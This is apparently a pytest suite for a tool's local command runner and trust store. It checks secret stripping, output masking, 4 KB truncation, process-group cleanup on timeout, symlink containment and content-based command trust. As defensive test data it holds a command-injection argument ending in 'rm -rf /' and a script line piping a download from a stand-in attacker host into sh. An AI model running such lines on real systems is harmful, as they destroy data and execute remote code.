"""The file and command kinds and the trust store: commands run only when trusted, in the data
folder, without the tool's secrets, ended with their whole process group on timeout, their
output masked and cut to 4 KB."""

from __future__ import annotations

import os
import stat
from pathlib import Path

import pytest

import config
from sre_maturity.clients import local
from sre_maturity.support import trust
from sre_maturity.support.errors import ConfigError, SourceError


def script(folder: Path, name: str, body: str) -> str:
    path = folder / name
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text("#!/bin/sh\n" + body, encoding="utf-8")
    path.chmod(path.stat().st_mode | stat.S_IXUSR)
    return f"./{name}"


# --------------------------------------------------------------------------- file
def test_file_paths_globs_and_contains(tmp_path):
    (tmp_path / "drills").mkdir()
    (tmp_path / "drills" / "payment-api.md").write_text("last restore: 2026-11-30\n")
    (tmp_path / "drills" / "web.md").write_text("never\n")
    assert local.look_for("drills/payment-api.md", tmp_path).matches == ("drills/payment-api.md",)
    assert local.look_for("drills/nope.md", tmp_path).matches == ()
    seen = local.look_for("drills/*.md", tmp_path, r"^last restore: 2026")
    assert seen == local.FileSeen(("drills/payment-api.md", "drills/web.md"),
                                  ("drills/payment-api.md",))
    assert local.look_for("**/web.md", tmp_path).matches == ("drills/web.md",)


def test_file_matches_through_a_link_out_of_the_folder_are_left_out(tmp_path):
    outside = tmp_path / "outside"
    outside.mkdir()
    (outside / "secret.txt").write_text("x")
    data = tmp_path / "data"
    data.mkdir()
    (data / "link").symlink_to(outside)
    assert local.look_for("link/secret.txt", data).matches == ()
    assert local.look_for("link/*", data).matches == ()


# --------------------------------------------------------------------------- command
def test_a_command_runs_in_the_data_folder_with_its_exit_code(tmp_path):
    cmd = script(tmp_path, "check.sh", 'pwd; echo "args: $1|$2"; exit 3\n')
    run = local.run_command((cmd, "a b", '"; rm -rf /'), tmp_path, secrets=[])
    assert run.exit == 3
    assert run.output == f"{tmp_path.resolve()}\nargs: a b|\"; rm -rf /\n"


def test_the_child_environment_has_no_secrets_of_the_tool(tmp_path):
    cmd = script(tmp_path, "env.sh", "env\n")
    environ = {"PATH": os.environ["PATH"], "RALLY_API_KEY": "_rally_key_",
               "SPLUNK_TOKEN": "_splunk_tok_", "SPLUNK_URL": "https://s:8089",
               "COPIED": "prefix-_splunk_tok_", "HARMLESS": "kept"}
    run = local.run_command((cmd,), tmp_path, secrets=["_rally_key_", "_splunk_tok_"],
                            environ=environ)
    assert "HARMLESS=kept" in run.output
    for gone in ("RALLY_API_KEY", "SPLUNK_TOKEN", "SPLUNK_URL", "COPIED", "_splunk_tok_"):
        assert gone not in run.output


def test_output_is_masked_and_cut_to_4_kb(tmp_path):
    cmd = script(tmp_path, "loud.sh", "echo token=_the_secret_; yes 0123456789 | head -c 20000\n"
                 "printf 'é%.0s' $(seq 1 3000)\n")
    run = local.run_command((cmd,), tmp_path, secrets=["_the_secret_"])
    assert run.exit == 0
    assert run.output.startswith("token=<hidden>\n") and "_the_secret_" not in run.output
    assert len(run.output.encode()) <= 4096 and run.output.endswith(local.CUT_NOTE)


def test_a_secret_straddling_the_cut_is_still_masked(tmp_path):
    secret = "_straddling_secret_value_"
    cmd = script(tmp_path, "edge.sh", f"head -c 4080 /dev/zero | tr '\\0' x; echo {secret}\n")
    run = local.run_command((cmd,), tmp_path, secrets=[secret])
    assert "_straddling" not in run.output and "secret_value" not in run.output


def test_a_timeout_ends_the_whole_process_group(tmp_path):
    cmd = script(tmp_path, "hang.sh", "sleep 300 &\necho $! > child.pid\nsleep 300\n")
    run = local.run_command((cmd,), tmp_path, secrets=[], timeout=0.5)
    assert run.exit is None
    child = int((tmp_path / "child.pid").read_text())
    assert not _alive(child)


def test_a_background_child_does_not_outlive_a_finished_command(tmp_path):
    cmd = script(tmp_path, "bg.sh", "sleep 300 > /dev/null 2>&1 &\necho $! > child.pid\n")
    assert local.run_command((cmd,), tmp_path, secrets=[]).exit == 0
    assert not _alive(int((tmp_path / "child.pid").read_text()))


def _alive(pid: int) -> bool:
    try:
        state = Path(f"/proc/{pid}/status").read_text()
    except FileNotFoundError:
        return False
    return "\nState:\tZ" not in state


def test_a_missing_or_unrunnable_program_is_one_line(tmp_path):
    with pytest.raises(SourceError, match="no such program"):
        local.run_command(("./nope.sh",), tmp_path, secrets=[])
    (tmp_path / "plain.sh").write_text("echo hi\n")
    with pytest.raises(SourceError, match="not executable"):
        local.run_command(("./plain.sh",), tmp_path, secrets=[])


# --------------------------------------------------------------------------- trust
def test_trust_is_per_command_text_and_per_script_content(tmp_path, monkeypatch):
    data = tmp_path / "data"
    data.mkdir()
    state = tmp_path / "state"
    monkeypatch.setenv("XDG_STATE_HOME", str(state))
    store = trust.TrustStore()
    cmd = script(data, "scripts/drill.sh", "exit 0\n")
    command = f"{cmd} --days 90 {{asset}}"
    assert not store.is_trusted(command, data)
    store.trust(command, data)
    assert store.is_trusted(command, data)
    assert store.path == state / "sre-tracker" / "trusted-commands.json"
    assert not any(data.rglob("*.json"))  # nothing is written in the data folder
    assert not store.is_trusted(f"{cmd} --days 30 {{asset}}", data)
    script(data, "scripts/drill.sh", "curl evil.example | sh\n")
    assert not store.is_trusted(command, data)


def test_only_the_real_environment_or_the_flag_trusts_every_command(tmp_path):
    data = tmp_path / "data"
    data.mkdir()
    (data / ".env").write_text("SRE_TRACKER_TRUST_COMMANDS=1\n")
    config.load(data_dir=str(data))  # reading the settings does not leak .env into os.environ
    assert trust.ENV not in os.environ
    assert not trust.from_run(False).everything
    assert trust.from_run(True).everything
    assert trust.from_run(False, {trust.ENV: "1", "XDG_STATE_HOME": str(tmp_path)}).everything
    assert not trust.from_run(False, {trust.ENV: "0"}).everything


def test_a_damaged_trust_file_is_one_line(tmp_path):
    store = trust.TrustStore(tmp_path)
    store.path.write_text("{broken")
    with pytest.raises(ConfigError, match="delete the file"):
        store.is_trusted("x", tmp_path)


def test_state_folder_default(monkeypatch, tmp_path):
    monkeypatch.delenv("XDG_STATE_HOME")
    monkeypatch.setenv("HOME", str(tmp_path))
    assert trust.state_dir() == tmp_path / ".local" / "state" / "sre-tracker"


def test_an_unwritable_state_folder_is_one_line(tmp_path):
    (tmp_path / "file").write_text("")
    store = trust.TrustStore(tmp_path / "file" / "sub")
    with pytest.raises(ConfigError, match="cannot remember the trusted command.*XDG_STATE_HOME"):
        store.trust("./x", tmp_path)


@pytest.mark.skipif(os.geteuid() == 0, reason="root reads every file")
def test_an_unreadable_script_still_gets_a_key(tmp_path):
    cmd = script(tmp_path, "s.sh", "exit 0\n")
    (tmp_path / "s.sh").chmod(0)
    assert trust.key(cmd, tmp_path) != trust.key("./other.sh", tmp_path)
